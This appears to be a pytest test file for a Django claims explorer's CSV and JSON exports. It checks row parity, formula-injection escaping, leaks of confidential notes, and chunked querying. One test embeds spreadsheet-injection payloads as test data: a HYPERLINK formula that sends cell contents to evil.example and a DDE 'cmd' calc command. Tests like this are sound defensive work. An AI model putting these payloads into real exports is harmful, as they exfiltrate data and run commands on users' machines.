"""?format=csv and ?format=json: exactly the explorer's rows, streamed, safe in a spreadsheet."""

import csv
import io
import json
import math
import unicodedata

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext

from agencies import models as m
from agencies.explorer import rows as explorer
from tests import factories as f
from tests.factories import bulk_record

pytestmark = pytest.mark.django_db

URL = "/claims/"


def body(response) -> bytes:
    assert response.status_code == 200, response.content if not response.streaming else ""
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[dict]:
    raw = body(response)
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark: spreadsheets read it as UTF-8
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def page_slugs(client, params: dict) -> list[str]:
    response = client.get(URL, {**params, "per_page": 200})
    return [row.claim.slug for row in response.context["rows"]]


def test_seed_csv_downloads_the_same_rows_as_the_page(client, seeded, reader):
    client.force_login(reader)
    for params in (
        {},
        {"agency": "dhs"},
        {"anonymous_only": "true"},
        {"q": "mail covers"},
        {"sort": "-origins"},
    ):
        response = client.get(URL, {**params, "format": "csv"})
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"].startswith('attachment; filename="oversight-claims-')
        assert [row["id"] for row in csv_rows(response)] == page_slugs(client, params), params


def test_csv_columns_say_what_the_page_says(client, seeded, reader):
    client.force_login(reader)
    rows = {row["id"]: row for row in csv_rows(client.get(URL, {"format": "csv"}))}
    enlisted = rows["uspis-enlisted"]
    assert enlisted["made"] == "2025-05" and enlisted["made_precision"] == "month"
    assert enlisted["agencies"] == "USPIS; DHS" and enlisted["agency_ids"] == "uspis; dhs"
    assert enlisted["independent_origins"] == "2"
    assert (enlisted["anonymous_only"], enlisted["single_outlet"], enlisted["contested"]) == (
        "yes",
        "yes",
        "no",
    )
    assert enlisted["lines"].startswith(
        "supports: The Daily Beast → The Washington Post → two people who spoke on the condition of "
        "anonymity (fear of professional reprisals) (para 2) | "
    )
    homan = rows["homan-deportation-count"]
    assert homan["contested"] == "yes" and homan["status"] == "disputed"
    assert homan["figures"] == "139000 people (deportations), 2025-01-20 – 2025-04-28"
    assert rows["trump-vow-millions"]["made"] == ""


# A newline, and the full-width and small forms spreadsheets read as =, +, - and @, too.
@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66"]
)
def test_csv_cells_never_start_a_formula(client, reader, start):
    f.ClaimFactory(slug="formula", text=f'{start}HYPERLINK("http://evil.example/?"&A1,"click")')
    f.AttributionFactory(
        claim=m.Claim.objects.get(slug="formula"),
        origin=f.SourceFactory(name=f"{start}cmd|' /C calc'!A0"),
        quote="@SUM(1+1)",
        document=f.DocumentFactory(outlet=None, title="-2+3"),
    )
    client.force_login(reader)
    (row,) = csv_rows(client.get(URL, {"format": "csv"}))
    assert row["text"] == f'\'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    for column, value in row.items():
        assert not unicodedata.normalize("NFKC", value[:1]).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
        assert not value.startswith(explorer.FORMULA_STARTS), column
    assert "-2+3" in row["lines"]  # inside a cell, text stays as it was


def test_json_export_is_the_same_rows_with_structured_lines(client, seeded, reader):
    client.force_login(reader)
    response = client.get(URL, {"agency": "dhs", "format": "json"})
    assert response["Content-Type"] == "application/json; charset=utf-8"
    data = json.loads(body(response))
    assert data["format"] == "oversight-claims/1"
    assert data["filter"] == "agency=dhs"
    assert data["selection"] == "Claims: about DHS, sub-agencies included"
    assert [claim["id"] for claim in data["claims"]] == page_slugs(client, {"agency": "dhs"})
    ice = next(claim for claim in data["claims"] if claim["id"] == "ice-deportation-count")
    assert ice["agencies"] == [
        {"id": "ice", "name": "U.S. Immigration and Customs Enforcement", "acronym": "ICE"}
    ]
    assert ice["figures"][0] | {} == {
        "id": "ice-57k",
        "metric": "deportations",
        "value": "57000",
        "unit": "people",
        "period_start": "2025-01-20",
        "period_end": "2025-04-28",
        "geography": "United States",
        "basis": "ICE data",
    }
    assert ice["lines"] == [
        {
            "stance": "supports",
            "chain": ["The Daily Beast", "USA Today", "ICE data"],
            "origin_kind": "dataset",
            "quote": "",
            "locator": "para 13",
        }
    ]
    assert ice["contested"] is True and ice["anonymous_only"] is False


def test_an_empty_selection_exports_an_empty_list(client, seeded, reader):
    client.force_login(reader)
    assert json.loads(body(client.get(URL, {"q": "zzzz-nothing", "format": "json"})))["claims"] == []
    assert csv_rows(client.get(URL, {"q": "zzzz-nothing", "format": "csv"})) == []


def test_exports_never_carry_confidential_notes(client, reader, django_user_model):
    canary = "CANARY-export-3b1e Jane Roe"
    source = f.AnonymousSourceFactory()
    m.SourceConfidentialNote.objects.create(source=source, notes=canary)
    f.AttributionFactory(origin=source)
    superuser = django_user_model.objects.create_superuser("boss", "b@example.org", "pw-for-tests-only")
    for user in (reader, superuser):
        client.force_login(user)
        for fmt in ("csv", "json"):
            assert canary.encode() not in body(client.get(URL, {"format": fmt}))


def test_exports_read_the_selection_a_chunk_at_a_time(client, reader, monkeypatch):
    """The rows come through an iterator: per chunk one query per related table, never all at once."""
    size, chunk = 45, 10
    bulk_record(size)
    monkeypatch.setattr(explorer, "EXPORT_CHUNK", chunk)
    client.force_login(reader)
    client.get(URL)  # the session and permissions are read
    response = client.get(URL, {"format": "csv"})
    with CaptureQueriesContext(connection) as queries:
        rows = csv_rows(response)
    assert len(rows) == size
    # The claims once (a cursor), then for each chunk attributions, hops, answering claims, agencies,
    # figures, and what decides "contested": disputing lines and answers, figures near the chunk's.
    # The export reads in a transaction of its own: here (inside the test's) a savepoint and its release.
    assert len(queries) == 1 + 7 * math.ceil(size / chunk) + 2
